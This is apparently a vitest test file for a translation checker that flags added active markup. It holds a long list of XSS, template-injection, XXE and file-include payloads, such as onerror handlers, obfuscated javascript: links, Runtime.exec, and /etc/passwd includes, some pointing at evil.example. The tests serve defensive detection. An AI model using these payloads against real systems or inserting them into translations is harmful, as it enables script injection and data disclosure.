import { describe, expect, test } from 'vitest';
import { inEnglish } from '#base';
import type { FileFormat } from '#formats';
import type { TextFormat } from '#protect';
import { findActiveMarkup } from '../../../packages/units/active-markup/active-markup.ts';
import type { MarkupFacts } from '../../../packages/units/active-markup/markup-syntax.ts';

/** How the texts of each format are read. */
const FORMATS: Partial<Record<FileFormat, TextFormat>> = {
  ...{
    html: 'html',
    markdown: 'markdown',
    mdx: 'mdx',
    notebook: 'markdown',
    svelte: 'svelte',
    vue: 'vue',
    astro: 'astro',
  },
  ...{
    json: 'plain',
    json5: 'plain',
    arb: 'arb',
    yaml: 'plain',
    toml: 'plain',
    po: 'plain',
    android: 'plain',
    xliff: 'plain',
  },
  ...{
    properties: 'icu',
    csv: 'plain',
    resx: 'plain',
    qt: 'plain',
    fluent: 'plain',
    php: 'plain',
    rst: 'plain',
    asciidoc: 'plain',
  },
  ...{ strings: 'plain', stringsdict: 'plain', xcstrings: 'plain', ini: 'plain', srt: 'plain', vtt: 'plain' },
};

const ALL = Object.keys(FORMATS) as FileFormat[];
const COMPONENTS: readonly FileFormat[] = ['mdx', 'svelte', 'astro', 'vue'];
const MESSAGES = ALL.filter((format) => ['plain', 'icu', 'arb'].includes(FORMATS[format] ?? ''));
const MARKDOWN: readonly FileFormat[] = ['markdown', 'mdx', 'notebook'];

function found(source: string, target: string, format: FileFormat): string | undefined {
  const facts: MarkupFacts = { format, protectAs: FORMATS[format] ?? 'plain' };
  const message = findActiveMarkup([source], target, facts);
  return message && inEnglish(message);
}

/** What a source can have that somebody changes. */
const SOURCE =
  'Read <a href="/docs">the docs</a> of <kbd>Ctrl</kbd> ![logo](/logo.png) [x](https://a.example/en) <img src="https://img.example/a.png" alt="A">';

/** Texts that run, load, or open something, by the formats in which they do. */
const HOSTILE: readonly (readonly [text: string, formats?: readonly FileFormat[]])[] = [
  ['<svg/onload=alert(1)>'],
  ['<SVG ONLOAD=alert(1)>'],
  ['<svg\nonload\n=\nalert(1)\n>'],
  ['<svg/onload=alert(1)'],
  ['<svg><animate onbegin=alert(1) attributeName=x>'],
  ['<iframe/srcdoc=&lt;script&gt;>'],
  ['<iframe src=https://evil.example>'],
  ['<iframe src=/docs>'],
  ['<img/src=x onerror=alert(1)>'],
  ['<img src="https://evil.example/p.png">'],
  ['<img src=//evil.example/p.png>'],
  ['<img src="\\\\evil.example/p.png">'],
  ['<img src="https:\\evil.example\\p.png">'],
  ['<img src="https://a.example@evil.example/">'],
  ['<img srcset="/a.png 1x, https://evil.example/b.png 2x" src="/logo.png">'],
  ['<img style="background:url(https://evil.example)">'],
  ['<b style="background:url(//evil.example)">x</b>'],
  ['<kbd onclick="alert(1)">Strg</kbd>'],
  ['<kbd\nonmouseover\n="alert(1)">Strg</kbd>'],
  ['<a href="javascript:alert(1)">x</a>'],
  ['<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['<a href="java&#115;cript:alert(1)">x</a>'],
  ['<a href="java&#x73;cript:alert(1)">x</a>'],
  ['<a href="java&#0000115cript:alert(1)">x</a>'],
  ['<a href="java&Tab;script&colon;alert(1)">x</a>'],
  ['<a href="java\tscript:alert(1)">x</a>'],
  ['<a href="java\nscript:alert(1)">x</a>'],
  ['<a href="\u0001javascript:alert(1)">x</a>'],
  ['<a href="java\u00adscript:alert(1)">x</a>'],
  ['<a href=vbscript:msgbox(1)>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['<a xlink:href="javascript:alert(1)">x</a>'],
  ['<a href="/docs" ping="https://evil.example">x</a>'],
  ['<a href="https://evil.example">x</a>'],
  ['<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>'],
  ['<button formaction=javascript:alert(1)>x'],
  ['<math><mtext></mtext></math>'],
  ['<script>alert(1)</script>'],
  ['<script src=/x.js></script>'],
  ['<ſcript/x>'.replace('ſ', 's')],
  ['<object data="/x.swf">'],
  ['<embed src=/x>'],
  ['<base href="https://evil.example/">'],
  ['<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['<link rel=stylesheet href=/x.css>'],
  ['<style>@import "https://evil.example"</style>'],
  ['<template><b>x</b></template>'],
  ['<video poster=//evil.example/x src=/x>'],
  ['<details ontoggle=alert(1) open>x</details>'],
  ['<b x-on:click="alert(1)">x</b>'],
  ['<b @click="alert(1)">x</b>'],
  ['<b :onclick="alert(1)">x</b>'],
  ['<b v-html="x">x</b>'],
  ['<b on:click="{alert}">x</b>'],
  ['<b (click)="alert(1)">x</b>'],
  ['<b [innerHTML]="x">x</b>'],
  ['<b hx-get="https://evil.example">x</b>'],
  ['<b data-bind="html: x">x</b>'],
  ["{{constructor.constructor('alert(1)')()}}"],
  ["\u0024{T(java.lang.Runtime).getRuntime().exec('x')}"],
  ['#{T(java.lang.Runtime).getRuntime()}'],
  ["{% include 'x' %}"],
  ['<?php system("x") ?>'],
  ['<%= system("x") %>'],
  ['<!--#exec cmd="x" -->'],
  ['<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['<!ENTITY x SYSTEM "file:///etc/passwd">'],
  ['{{< youtube-x src="https://evil.example" onload="x" >}}'],
  ['[x](javascript:alert(1))'],
  ['[x](<javascript:alert(1)>)'],
  ['[x]( javascript:alert(1))'],
  ['[x](\njavascript:alert(1))'],
  ['[x](java&#115;cript:alert(1))'],
  ['[x](java&Tab;script:alert(1))'],
  ['[x](javascript\\:alert(1))'],
  ['[x](JAVASCRIPT:alert(1) "title")'],
  ['[x](data:text/html,<script>alert(1)</script>)'],
  ['[x](vbscript:x)'],
  ['[x](command:workbench.action.terminal.new)'],
  ['[x](file:///etc/passwd)'],
  ['[x](ms-msdt:/id)'],
  ['[a[b]c](javascript:alert(1))'],
  ['[![x](/logo.png)](javascript:alert(1))'],
  ['![x](https://evil.example/p.png)'],
  ['![x](//evil.example/p.png)'],
  ['[![x](https://evil.example/p.png)](/docs)'],
  ['[x]\n\n[x]: javascript:alert(1)'],
  ['[x]: <javascript:alert(1)>'],
  ['> [x]:\n> javascript:alert(1)'.replace('\n> ', '\n')],
  ['<javascript:alert(1)>'],
  ['<JaVaScRiPt:alert(1)>'],
  ['<java&#115;cript:alert(1)>'],
  ['[url=javascript:alert(1)]x[/url]'],
  ['[img]https://evil.example/p.png[/img]'],
  ['x {: onclick="alert(1)"}', MARKDOWN],
  ['[x](/docs){onclick=alert(1)}', MARKDOWN],
  ['`<b>`{=html}', MARKDOWN],
  ['```{raw} html\n<b>\n```', MARKDOWN],
  ['{raw}`<b>`', MARKDOWN],
  ['$\\href{javascript:alert(1)}{x}$', [...MARKDOWN, 'rst', 'asciidoc']],
  ['import X from "https://evil.example/x.js"', ['mdx']],
  ['export const x = alert(1)', ['mdx']],
  ['{alert(1)}', COMPONENTS.filter((each) => each !== 'vue')],
  ['{@html x}', ['svelte', 'markdown', 'json']],
  ['{#await x}', ['svelte']],
  ['{{ alert(1) }}'],
  ['{{ x }}', ['vue']],
  ['<Evil />', COMPONENTS],
  ['<my-element></my-element>', ['vue', 'html' as const].filter((each) => each === 'vue') as FileFormat[]],
  ['<b {...props}>x</b>', ['svelte', 'astro', 'mdx']],
  ['<b use:action>x</b>', ['svelte']],
  ['<b v-bind:href=x>x</b>', ['vue']],
  ['<b onClick={() => alert(1)}>x</b>', COMPONENTS],
  ["'<'img src=x onerror=alert(1)>", MESSAGES],
  ["<'img src=x onerror=alert(1)'>", MESSAGES],
  ["<'svg'/onload=alert(1)>", MESSAGES],
  ["<scr'ipt'>alert(1)</script>", MESSAGES],
  ['<a href="java\'script\':alert(1)">x</a>', MESSAGES],
  ["[x](java'script':alert(1))", MESSAGES],
  ["<b title='x onclick=alert(1)'>x</b>", MESSAGES],
  ['{"<"}img src=x onerror=alert(1)>', MESSAGES],
  ['{ "\\u003C" }img src=x onerror=alert(1)>', MESSAGES],
  ['{"\\U00003C"}script>', MESSAGES],
  ["{'<'}img src=x onerror=alert(1)>", MESSAGES],
  ['<{""}svg/onload=alert(1)>', MESSAGES],
  ['<scr{""}ipt>', MESSAGES],
  ['<a href="java{"script"}:alert(1)">x</a>', MESSAGES],
  ['{n, plural, one {<} other {<}}img src=x onerror=alert(1)>', MESSAGES],
  ['<{n, select, other {img src=x onerror=alert(1)}}>', MESSAGES],
  ['<{n, select, other {{n, select, other {script}}}}>', MESSAGES],
  ['<a href="/\\\\evil.example">x</a>'],
  ['<a href="\\/evil.example">x</a>'],
  ['<a href="///evil.example">x</a>'],
  ['<a href="https:evil.example">x</a>'],
  ['<a href="/\t/evil.example">x</a>'],
  ['<a href="https://evil.example\\@a.example/">x</a>'],
  ['<a href="https://a.example.evil.test/">x</a>'],
  ['![x][r]\n\n[r]: https://evil.example/p.png'],
  ['- .. include:: /etc/passwd', ['rst']],
  ['1. .. raw:: html\n\n   <b>', ['rst']],
  ['(a) .. include:: /etc/passwd', ['rst']],
  ['.. raw:: html\n\n   <b>', ['rst']],
  ['.. |x| image:: https://evil.example/p.png', ['rst']],
  ['.. include:: /etc/passwd', ['rst']],
  [':raw-html:`<b>`', ['rst']],
  ['`x`:raw:', ['rst']],
  ['`x <javascript:alert(1)>`_', ['rst']],
  ['.. _x: javascript:alert(1)', ['rst']],
  ['pass:[<b>]', ['asciidoc']],
  ['pass:q[x]', ['asciidoc']],
  ['+++<b>+++', ['asciidoc']],
  ['++++\n<b>\n++++', ['asciidoc']],
  ['link:javascript:alert(1)[x]', ['asciidoc']],
  ['link:++javascript:alert(1)++[x]', ['asciidoc']],
  ['link:java{empty}script:alert(1)[x]', ['asciidoc']],
  ['image::https://evil.example/p.png[]', ['asciidoc']],
  ['image:https://evil.example/p.png[]', ['asciidoc']],
  ['include::/etc/passwd[]', ['asciidoc']],
  ['video::x[youtube]', ['asciidoc']],
  ['[subs=-specialchars]', ['asciidoc']],
];

const CASES = HOSTILE.flatMap(([text, formats = ALL]) => formats.map((format) => [format, text] as const));

/** What is markup only at the beginning of a line. */
const OF_LINE = /^(?:(?:- |1\. |\(a\) )?\.\. |\+{4}|import|export|\[subs|> |\[x\]:|`{3})/;

describe('what runs, loads, or opens something, and the source lacks, is found (reliability V17)', () => {
  test.each(CASES)('%s: %s', (format, text) => {
    const target = OF_LINE.test(text) ? text : `Lies ${text} hier`;
    expect(found(SOURCE, target, format)).toMatch(/^The source does not have ./);
    // What the source has may stand elsewhere.
    expect(
      found(OF_LINE.test(text) ? `${SOURCE}\n${text}` : `${text} ${SOURCE}`, target, format),
    ).toBeUndefined();
  });
});

/** A source, and a translation of it that is right. */
const RIGHT: readonly (readonly [source: string, target: string, formats?: readonly FileFormat[]])[] = [
  ['Press <kbd>Ctrl</kbd> and <b>C</b>', '<b>C</b> und <kbd>Strg</kbd> drücken'],
  ['If 5 < 6 and 7 > 6', 'Wenn 5 < 6 und 7 > 6'],
  ['if a<b and (c>d)', 'wenn a<b und (c>d)', ALL.filter((each) => !COMPONENTS.includes(each))],
  [
    'x <y "see below" (or not)',
    'x <y „siehe unten“ (oder nicht)',
    ALL.filter((each) => !COMPONENTS.includes(each)),
  ],
  ['<img src="/en/a.png" alt="A tree">', '<img src="/de/a.png" alt="Ein Baum" title="Baum">'],
  ['<a href="https://a.example/en/x">x</a>', '<a href="https://a.example/de/y" hreflang="de">x</a>'],
  [
    '<a href="https://en.wikipedia.org/wiki/File">x</a>',
    '<a href="https://de.wikipedia.org/wiki/Datei">x</a>',
  ],
  ['[x](https://www.example.com/en)', '[x](https://www.example.de/)'],
  ['[x](/docs)', '[x](../de/docs#überblick "Titel")'],
  ['![A](/a.png)', '![Ein A](/de/a.png)'],
  ['[![A](/a.png)](https://a.example)', '[![Ein A](/a.png)](https://a.example/de)'],
  ['Write to [us](mailto:info@a.example)', 'Schreib [uns](mailto:info@a.example?subject=Hallo)'],
  ['See https://a.example', 'Siehe [hier](https://a.example/de)'],
  ['Hello <b>you</b>', 'Hallo<br>&nbsp;<b>du</b><wbr>'],
  ['Line one', 'Zeile<br/>eins'],
  ['Hello {name}', 'Hallo {name}', ALL],
  ['Hello {{name}}', '{{name}}, hallo', ALL],
  [
    '{n, plural, one {# file} other {# files}}',
    '{n, plural, =0 {keine Datei} one {# Datei} few {{n} Dateien} other {# Dateien}}',
    ['json', 'arb', 'properties', 'yaml', 'po', 'xliff'],
  ],
  [
    'Use <file> and <your-name>',
    'Nutze <Datei> und <Dein-Name>',
    ['json', 'po', 'markdown', 'android', 'rst', 'asciidoc', 'yaml'],
  ],
  ['Connect to <host:port>', 'Mit <Rechner:Port> verbinden', ['json', 'po', 'markdown', 'rst', 'asciidoc']],
  ['JavaScript: The Good Parts', 'JavaScript: Das Beste (Daten: alles)'],
  ['Data: see below', 'Daten: siehe unten; data:'],
  ['<0>Save</0> all', 'Alle <0>speichern</0>', ALL],
  ['Read <Link to="/x">this</Link>', 'Lies <Link to="/de/x">dies</Link>'],
  ['<a href="{{url}}">x</a>', '<a href="{{url}}">y</a>'],
  ['<a href="%s">x</a> <%s>', '<a href="%1$s">y</a> <%1$s>', ['json', 'po', 'android', 'properties', 'php']],
  ['<span class="a" data-x="1">x</span>', '<span data-x="1" class="a">y</span>'],
  ['<script>f()</script> <b>x</b>', '<b>y</b> <script>f()</script>'],
  ['[x](javascript:void(0))', '[y](javascript:void(0))'],
  ['<a href="slack://a">x</a>', '<a href="slack://b">y</a>'],
  ['{% if x == "a" %}A{% endif %}', '{% if x == "a" %}Ä{% endif %}', ['markdown', 'html', 'json']],
  [
    '{{< figure src="/a.png" caption="A tree" >}}',
    '{{< figure src="/de/a.png" caption="Ein Baum" >}}',
    ['markdown', 'html'],
  ],
  ['# Title {#title .x}', '# Titel {#titel .x}', ['markdown', 'notebook']],
  ['See the [guide][g].', 'Siehe die [Anleitung][g].', MARKDOWN],
  ['[g]: https://a.example/en "Guide"', '[g]: https://a.example/de "Anleitung"', MARKDOWN],
  ['Import the file', 'import-Datei wählen', ['markdown', 'json']],
  ['import X from "x"', 'import X from "x"', ['mdx']],
  ['{props.a} is {b}', '{b} ist {props.a}', COMPONENTS],
  ['<Box on:click={f}>x</Box>', '<Box on:click={f}>y</Box>', ['svelte', 'astro', 'mdx', 'vue']],
  ['See :ref:`x` and `y <https://a.example>`_', 'Siehe `y <https://a.example/de>`_ und :ref:`x`', ['rst']],
  ['link:/x[the docs] kbd:[Ctrl]', 'kbd:[Strg] link:/de/x[Doku] footnote:[Notiz]', ['asciidoc']],
  [':toc-title: Contents', ':toc-title: Inhalt', ['asciidoc']],
  ['image::a.png[A tree]', 'image::de/a.png[Ein Baum]', ['asciidoc']],
  ["Don't use <b>this</b>", "N'utilisez pas <b>l'autre</b>, s'il vous plaît", MESSAGES],
  ["<a href='/docs' title='The docs'>x</a>", "<a href='/docs' title='Die Hilfe'>l'aide</a>", MESSAGES],
  ["It's <{name}>", "C'est <{name}> d'{name}", MESSAGES],
  ['Less: { "<" } or {"\\u003C"}', 'Weniger: {"\\u003C"} oder { "<" }', MESSAGES],
  [
    '{n, plural, one {<b>#</b>} other {#}}',
    '{n, plural, one {<b>#</b>} other {< #}}',
    ['json', 'arb', 'properties'],
  ],
  ["a '<' b", "a '<' b und '>' c", MESSAGES],
  ['Is {a} <{b}?', 'Ist {a} <{b}? {a}<{b}', MESSAGES],
  ['I <3 it, x<y', 'Ich <3 es, x<y und y<3', MESSAGES],
  ['Use `<b>` here', 'Nimm hier `<b>`', ['markdown', 'json', 'yaml']],
  ['See section: [1]', 'Siehe Abschnitt: [1]', ALL],
  ['C++ is fast', 'C++ ist schnell', ALL],
  ['You & I', 'Du & ich &copy; 2026 &#8211; &lt;b&gt;', ALL],
  ['Draw a <shape>', 'Zeichne eine <Form>', ['json', 'po', 'yaml', 'android']],
];

describe('what is right stays', () => {
  test.each(
    RIGHT.flatMap(([source, target, formats = ALL]) =>
      formats.map((format) => [format, source, target] as const),
    ),
  )('%s: %s', (format, source, target) => expect(found(source, target, format)).toBeUndefined());
});

describe('a declaration that a text only names', () => {
  const NAMED = [
    ['Regarding `<!DOCTYPE`s and `<!ENTITY`s', '`<!ENTITY` und `<!DOCTYPE` betreffend'],
    ['The `<![CDATA[` ends with `]]>`.', 'Mit `]]>` endet `<![CDATA[`, nicht früher.'],
    ['Write <!DOCTYPE first', 'Zuerst <!DOCTYPE schreiben'],
  ] as const;

  test.each(NAMED)('%s may have other words', (source, target) => {
    for (const format of ALL) expect([format, found(source, target, format)]).toEqual([format, undefined]);
  });

  test.each([
    ['`<!ENTITY` is one', '`<!ENTITY` <!ENTITY x SYSTEM "file:///etc/passwd">'],
    ['`<!ENTITY` is one', '<!ENTITY x SYSTEM "file:///etc/passwd"'],
    ['Write <!DOCTYPE first', '<!DOCTYPE html SYSTEM "https://evil.example/x.dtd"'],
    ['Write <!DOCTYPE first', 'Zuerst <!DOCTYPE <?php evil() ?>'],
    ['Write <!DOCTYPE first', 'Zuerst <!DOCTYPE <!ENTITY x "y'],
    ['Write <?php first', 'Zuerst <?php evil(1 < 2'],
    ['Write it first', 'Zuerst `<!ENTITY` schreiben'],
  ])('%s does not become %s', (source, target) => {
    for (const format of ['html', 'markdown', 'json', 'android'] as const)
      expect(found(source, target, format)).toContain('The source does not have');
  });
});

test.each([
  ['so many tags', '<b'.repeat(3_000)],
  ['so many attributes', `<b${' a'.repeat(250)}`],
])('a tag that stands behind %s is refused, though it is not read (reliability V17)', (_, padding) => {
  const target = `${padding} title='<img src=x onerror=alert(1)>'`;
  expect(findActiveMarkup(['Hello'], target, { format: 'markdown', protectAs: 'markdown' })).toBeDefined();
});

test.each(['\n', '\r\n', '\r', ' ', '\\[', '\\]'])('the label of an address may have %j in it', (sign) => {
  const target = `[a${sign}b]: javascript:alert(1)\n\n[a${sign}b]`;
  expect(findActiveMarkup(['Hello'], target, { format: 'markdown', protectAs: 'markdown' })).toBeDefined();
});
